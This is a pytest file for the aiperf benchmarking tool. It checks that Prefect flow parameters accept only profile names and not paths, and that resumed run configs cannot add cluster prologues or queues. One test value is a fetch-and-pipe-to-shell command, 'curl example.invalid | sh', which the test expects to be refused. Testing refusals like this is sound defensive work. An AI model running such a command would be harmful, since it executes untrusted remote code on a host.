"""A flow's `profile` is a name, never a path, and a run resumed through a flow has only what a flow
run could have chosen (aiperf.lifecycle.parameters): whoever may run a deployment chooses its
parameters and the database it resumes from, and a profile's job settings reach batch job scripts."""

from __future__ import annotations

import os
import subprocess
import sys
from importlib import resources
from pathlib import Path

import pytest
import yaml
from conftest import TINY

from aiperf.config import RunRequest, available_profiles, load_config
from aiperf.errors import UserError
from aiperf.lifecycle.parameters import check_resumed_config, flow_profile, flow_request
from aiperf.store import Store


def own_profile(folder: Path, name: str = "tiny", **cluster: object) -> Path:
    """The packaged quick profile with TINY's settings (and `cluster`), as NAME.yaml in `folder`."""
    raw = yaml.safe_load((resources.files("aiperf") / "profiles" / "quick.yaml").read_text())
    for key, value in TINY.items():
        *sections, leaf = key.split(".")
        node = raw
        for section in sections:
            node = node.setdefault(section, {})
        node[leaf] = value
    if cluster:
        raw["cluster"] = {**raw.get("cluster", {}), **cluster}
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.yaml"
    path.write_text(yaml.safe_dump(raw, sort_keys=False))
    return path


@pytest.mark.parametrize(
    "profile", ["/etc/aiperf/tiny.yaml", "tiny.yaml", "profiles/tiny", "../tiny", ".tiny", "", 3]
)
def test_a_flow_profile_that_is_a_path_is_refused_in_one_line(profile, tmp_path, monkeypatch):
    own_profile(tmp_path)
    monkeypatch.setenv("AIPERF_PROFILE_DIR", str(tmp_path))
    with pytest.raises(
        UserError, match="is not a profile name: a flow run reads no path"
    ) as refused:
        flow_profile(profile)
    assert "\n" not in str(refused.value) and "AIPERF_PROFILE_DIR" in str(refused.value)


def test_a_flow_profile_is_packaged_or_in_the_hosts_folder(tmp_path, monkeypatch):
    assert flow_profile("quick") == "quick"
    monkeypatch.delenv("AIPERF_PROFILE_DIR", raising=False)
    with pytest.raises(
        UserError, match=r"'tiny' is no packaged profile \(AIPERF_PROFILE_DIR is unset"
    ):
        flow_profile("tiny")
    path = own_profile(tmp_path)
    monkeypatch.setenv("AIPERF_PROFILE_DIR", str(tmp_path))
    assert flow_profile("tiny") == str(path)
    own_profile(tmp_path, "quick")  # a packaged name cannot be shadowed
    assert flow_profile("quick") == "quick"
    with pytest.raises(UserError, match="put other.yaml in that folder"):
        flow_profile("other")


def test_a_resumed_config_must_be_one_a_flow_run_could_have(tmp_path, monkeypatch):
    folder = tmp_path / "profiles"
    monkeypatch.setenv("AIPERF_PROFILE_DIR", str(folder))
    check_resumed_config(load_config("quick", overrides={"cluster.adaptive": True}), 7)
    shell = {"cluster.prologue": ["curl example.invalid | sh"]}
    with pytest.raises(UserError, match="run 7's stored config sets cluster.prologue") as refused:
        check_resumed_config(load_config("quick", overrides=shell), 7)
    assert "aiperf run --resume 7 --db URL" in str(refused.value)

    elsewhere = own_profile(tmp_path / "elsewhere")  # a file the host did not put in its folder
    with pytest.raises(UserError, match="neither packaged nor in AIPERF_PROFILE_DIR"):
        check_resumed_config(load_config(str(elsewhere)), 7)
    hosts = own_profile(folder, "site", prologue=["module load cuda"])
    check_resumed_config(load_config(str(hosts)), 7)  # the host's own prologue
    with pytest.raises(UserError, match="sets cluster.prologue"):
        check_resumed_config(load_config(str(hosts), overrides=shell), 7)
    with pytest.raises(UserError, match="sets cluster.queue"):
        check_resumed_config(load_config(str(hosts), overrides={"cluster.queue": "gpu"}), 7)


@pytest.mark.slow
def test_a_flow_run_with_a_profile_path_is_refused_before_anything_is_recorded(
    prefect_api, tmp_path, sqlite_url
):
    """Refused by the parameter's type (FlowProfile, a Literal of names) before the flow's body."""
    from prefect.exceptions import ParameterTypeError

    from aiperf_flows.benchmark import benchmark

    path = own_profile(tmp_path)
    with Store.open(sqlite_url) as store:
        assert store.list_runs() == []
    with pytest.raises(ParameterTypeError, match="profile: Input should be 'digits'"):
        benchmark(
            profile=str(path), budget="5s", workers=1, db=sqlite_url, out=str(tmp_path / "out")
        )
    with Store.open(sqlite_url) as store:
        assert store.list_runs() == []
    assert not (tmp_path / "out").exists()


# --- the run form (issue 26 item 1) ---------------------------------------------------------------


def deployment_schemas() -> dict[str, dict]:
    """Each deployment's parameter schema as `prefect deploy` makes it from prefect.yaml: the flow
    loaded by its entrypoint, its signature and docstring read by Prefect's parameter_schema."""
    from prefect.flows import load_flow_from_entrypoint
    from prefect.utilities.callables import parameter_schema

    spec = yaml.safe_load((Path(__file__).parents[1] / "prefect.yaml").read_text())
    return {
        d["name"]: parameter_schema(load_flow_from_entrypoint(d["entrypoint"])).model_dump()
        for d in spec["deployments"]
    }


def test_every_run_form_field_is_typed_and_described():
    schemas = deployment_schemas()
    assert set(schemas) == {"benchmark", "nightly-regression"}
    for name, schema in schemas.items():
        fields = schema["properties"]
        assert "config" not in fields, name
        for field, spec in fields.items():
            # One type each: Prefect's form then shows one field, not type tabs and "None".
            assert spec.get("description"), (name, field)
            assert spec.get("type") in {"string", "integer", "number", "object"}, (name, field)
            assert "anyOf" not in spec and "default" in spec, (name, field, spec)
        assert fields["profile"]["enum"][: len(available_profiles())] == available_profiles()
        assert fields["overrides"]["type"] == "object" and fields["overrides"]["default"] == {}
    assert "slurm" in schemas["benchmark"]["properties"]["cluster"]["enum"]


def test_the_deployments_defaults_fit_their_schemas():
    """What prefect.yaml sets is what the server accepts (it enforces the schema)."""
    import jsonschema

    spec = yaml.safe_load((Path(__file__).parents[1] / "prefect.yaml").read_text())
    schemas = deployment_schemas()
    for deployment in spec["deployments"]:
        schema = schemas[deployment["name"]]
        jsonschema.validate(deployment["parameters"], schema)
        assert set(deployment["parameters"]) <= set(schema["properties"])
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({"profile": "/etc/aiperf/tiny.yaml"}, schemas["benchmark"])


def test_an_empty_field_keeps_the_profiles_value():
    assert flow_request() == RunRequest("quick")
    assert flow_request("quick", "90s", 2, "sqlite:///x.db", 0, "out", "slurm", {}) == RunRequest(
        "quick",
        budget="90s",
        workers=2,
        db="sqlite:///x.db",
        seed=0,  # a seed of 0 is a seed
        out="out",
        cluster="slurm",
    )
    config = load_config(flow_request(budget="", workers=1))
    assert config.budget_s == load_config("quick").budget_s and config.workers == 1


def test_the_forms_profiles_are_the_hosts_where_the_flows_are_imported(tmp_path):
    """`prefect deploy` imports the flows with the host's AIPERF_PROFILE_DIR: its profiles join the
    packaged ones as the form's choices (a name that is no profile file does not)."""
    own_profile(tmp_path, "site-a")
    (tmp_path / "notes.txt").write_text("not a profile")
    code = (
        "import typing; from aiperf.lifecycle.parameters import FlowProfile; "
        "print(','.join(typing.get_args(FlowProfile)))"
    )
    env = {**os.environ, "AIPERF_PROFILE_DIR": str(tmp_path)}
    shown = subprocess.run(
        [sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True
    ).stdout.strip()
    assert shown.split(",") == [*available_profiles(), "site-a"]


# --- a user's mistake in a parameter (issue 26 item 5) -----------------------------------------


def _logs_of(state) -> list[str]:
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import LogFilter, LogFilterFlowRunId
    from prefect.logging.handlers import APILogHandler

    APILogHandler().flush()  # logs go to the API in batches: send what is queued first
    flow_run_id = state.state_details.flow_run_id
    with get_client(sync_client=True) as client:
        logs = client.read_logs(
            log_filter=LogFilter(flow_run_id=LogFilterFlowRunId(any_=[flow_run_id]))
        )
    return [log.message for log in logs]


@pytest.mark.parametrize(
    ("flow_name", "parameters", "said"),
    [
        ("benchmark", {"budget": "soon"}, "not a duration"),
        ("nightly", {"baseline_runs": 0}, "baseline_runs must be at least 1"),
        ("nightly", {"overrides": {"train.epochs": "many"}}, "train.epochs"),
    ],
)
def test_a_mistake_in_a_parameter_fails_the_flow_run_with_its_line_and_no_traceback(
    prefect_api, tmp_path, sqlite_url, flow_name, parameters, said
):
    from aiperf_flows.benchmark import benchmark
    from aiperf_flows.nightly import nightly

    flow_fn = {"benchmark": benchmark, "nightly": nightly}[flow_name]
    state = flow_fn(db=sqlite_url, out=str(tmp_path / "out"), return_state=True, **parameters)
    assert state.is_failed() and said in state.message and "\n" not in state.message
    with pytest.raises(UserError, match=said):
        state.result()  # a caller gets the mistake itself
    logs = _logs_of(state)
    assert any(said in line for line in logs), logs
    assert not any("Traceback" in line for line in logs), logs
    assert not (tmp_path / "aiperf.db").exists() or Store.open(sqlite_url).list_runs() == []
